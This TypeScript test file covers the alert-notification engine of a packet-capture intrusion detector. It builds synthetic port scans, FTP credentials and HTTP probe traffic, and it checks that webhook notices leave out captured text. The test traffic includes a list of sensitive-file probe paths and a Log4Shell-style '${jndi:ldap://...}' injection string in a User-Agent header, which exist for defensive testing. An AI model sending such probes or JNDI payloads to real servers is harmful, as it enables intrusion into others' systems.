import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { noticeOf } from '../../src/engine/notifications/notice';
import { webhookBody } from '../../src/main/notifications/webhook-body';
import type { AlertQuery } from '../../src/shared/contract/alerts';
import type { NoticeMessage } from '../../src/shared/contract/engine-process';
import { notice as noticeSchema } from '../../src/shared/contract/notification-schemas';
import { DEFAULT_NOTIFICATIONS, type NotificationSettings } from '../../src/shared/contract/notifications';
import { ALERT_TYPES, type AlertRow, type NewMute, SEVERITIES } from '../../src/shared/model/alerts';
import { draw } from '../builders/draw';
import { EngineBench } from '../builders/engine';

const SERVER = '10.0.0.4';
const PORTS = [21, 22, 23, 25, 80, 110, 143, 443, 3306, 3389, 5432, 8080];

const scan = (source: string, from: number): string =>
  PORTS.map((port, i) => `+0.01 ${source}:${from + i} > ${SERVER}:${port} S\n${SERVER}:${port} > ${source}:${from + i} RA`).join('\n');
const scans = (count: number): Uint8Array =>
  draw(
    Array.from({ length: count }, (_, i) => scan(`203.0.113.${i + 1}`, 41_000)).join(
      '\n+5 10.0.0.1:5353 > 1.1.1.1:53 udp dns A example.com\n',
    ),
  ).pcap();

const ON: NotificationSettings = { ...DEFAULT_NOTIFICATIONS, webhook: true, files: true, severity: 'low', perMinute: 60 };
const EVERYTHING: AlertQuery = { severities: [], types: [], statuses: [], source: null, text: '', muted: false };
const MUTE: NewMute = { type: null, source: '203.0.113.1', target: null, port: null, reason: 'ours', expires: null };

describe('what the engine tells of', () => {
  let bench: EngineBench;
  let told: NoticeMessage[];

  beforeEach(async () => {
    told = [];
    bench = await EngineBench.start({ notify: (message) => told.push(message) });
  });
  afterEach(() => bench.close());

  const sources = (): string[] => told.map(({ notice }) => (notice.kind === 'alert' ? notice.sourceIp : `and ${notice.count} more`));

  it('is nothing until it is asked to', async () => {
    await bench.openBytes(scans(2));
    expect(told).toEqual([]);
  });

  it('is nothing of files, unless those are wanted too', async () => {
    bench.engine.notifier.configure({ ...ON, files: false });
    await bench.openBytes(scans(2));
    expect(told).toEqual([]);
  });

  it('is each alert once, with its ends, and where to', async () => {
    bench.engine.notifier.configure(ON);
    await bench.openBytes(scans(2), 'attack.pcap');
    expect(sources()).toEqual(['203.0.113.1', '203.0.113.2']);
    expect(told[0]).toMatchObject({
      type: 'notice',
      desktop: false,
      webhook: true,
      notice: {
        alert: 1,
        type: 'port_scan',
        severity: 'high',
        targetIp: SERVER,
        title: 'Port scan',
        technique: 'T1046',
        capture: 'attack.pcap',
      },
    });
    for (const { notice } of told) expect(noticeSchema.safeParse(notice).success).toBe(true);
  });

  it('is told of a file that goes on, even where other files are not wanted', async () => {
    bench.engine.notifier.configure({ ...ON, files: false });
    await bench.client.call('session.open', { path: await bench.file('growing.pcap', scans(1)), follow: true });
    await expect.poll(sources).toEqual(['203.0.113.1']);
  });

  it('is nothing below the severity', async () => {
    bench.engine.notifier.configure({ ...ON, severity: 'critical' });
    await bench.openBytes(scans(2));
    expect(told).toEqual([]);
  });

  it('is nothing that is muted or was dealt with when the file was open before', async () => {
    await bench.openBytes(scans(3));
    await bench.client.call('mutes.add', { mute: MUTE });
    const { rows } = await bench.client.call('alerts.rows', { from: 0, count: 9, query: EVERYTHING, sort: 'time', descending: false });
    await bench.client.call('alerts.handle', { ids: rows.slice(0, 1).map(({ id }) => id), status: 'acknowledged', note: '' });
    bench.engine.notifier.configure(ON);
    expect(told).toEqual([]);
    await bench.openBytes(scans(3));
    expect(sources()).toEqual(['203.0.113.3']);
  });

  it('is nothing that was there before somebody asked to be told', async () => {
    await bench.openBytes(scans(3));
    bench.engine.notifier.configure(ON);
    await bench.client.call('alerts.handle', { ids: [1], status: 'resolved', note: '' });
    expect(told).toEqual([]);
  });

  it('is a few, and a sum of the rest', async () => {
    bench.engine.notifier.configure({ ...ON, perMinute: 3 });
    await bench.openBytes(scans(20));
    await expect.poll(sources, { timeout: 10_000 }).toEqual(['203.0.113.1', '203.0.113.2', 'and 18 more']);
  });
});

describe('what leaves this machine', () => {
  const MARK = 'zqmarkerqz';
  const marked = fc.string({ unit: 'grapheme', maxLength: 30 }).map((text) => `${text}${MARK}${text}`);
  const rows: fc.Arbitrary<AlertRow> = fc.record({
    id: fc.integer({ min: 1, max: 20_000 }),
    key: marked,
    type: fc.constantFrom(...ALERT_TYPES),
    severity: fc.constantFrom(...SEVERITIES),
    time: fc.nat(),
    lastTime: fc.nat(),
    epoch: fc.nat().map((seconds) => `${seconds}.123456789`),
    lastEpoch: fc.constant('0.000000000'),
    sourceIp: fc.oneof(fc.ipV4(), fc.ipV6(), fc.constant('')),
    sourcePort: fc.option(fc.nat(65_535)),
    targetIp: fc.ipV4(),
    targetPort: fc.option(fc.nat(65_535)),
    sourceCountry: fc.constant('DE'),
    targetCountry: fc.constant(null),
    title: marked,
    description: marked,
    technique: fc.constant('T1046'),
    count: fc.integer({ min: 1, max: 100_000 }),
    absorbed: fc.nat(10),
    status: fc.constant('open' as const),
    note: marked,
    mute: fc.constant(null),
  });

  it('holds no text that an alert has from packets or people, whatever the alert', () => {
    fc.assert(
      fc.property(rows, (row) => {
        const notice = noticeOf(row, 1, 'capture.pcap');
        expect(noticeSchema.safeParse(notice).success).toBe(true);
        expect(JSON.stringify(webhookBody(notice, new Date(0)))).not.toContain(MARK);
      }),
    );
  });

  it('holds no name, password, address or query that was seen', async () => {
    const told: NoticeMessage[] = [];
    const bench = await EngineBench.start({ notify: (message) => told.push(message) });
    bench.engine.notifier.configure({ ...ON, severity: 'info' });
    const probes = [
      '/.env',
      '/wp-login.php',
      '/.git/config',
      '/phpmyadmin/',
      '/cgi-bin/test.cgi',
      '/actuator/env',
      '/server-status',
      '/vendor/phpunit',
    ];
    await bench.openBytes(
      draw(`
        10.0.0.5:4000 > 10.0.0.2:21 PA 'USER ${MARK}\\r\\nPASS ${MARK}\\r\\n'
        ${probes.map((path, i) => `10.0.0.6:${5000 + i} > 10.0.0.2:80 PA 'GET ${path}?${MARK} HTTP/1.1\\r\\nHost: ${MARK}.example\\r\\nUser-Agent: \${jndi:ldap://${MARK}/a}\\r\\n\\r\\n'`).join('\n')}
      `).pcap(),
    );
    const types = told.flatMap(({ notice }) => (notice.kind === 'alert' ? [notice.type] : []));
    expect(types).toEqual(expect.arrayContaining(['cleartext_credentials', 'exploit_probe']));
    const { rows: listed } = await bench.client.call('alerts.rows', {
      from: 0,
      count: 100,
      query: EVERYTHING,
      sort: 'time',
      descending: false,
    });
    // The window does show it: it was found, and left out on purpose.
    expect(JSON.stringify(listed)).toContain(MARK);
    for (const { notice } of told)
      expect(JSON.stringify(webhookBody(notice, new Date()))).not.toMatch(new RegExp(`${MARK}|jndi|wp-login|Host`));
    await bench.close();
  });
});
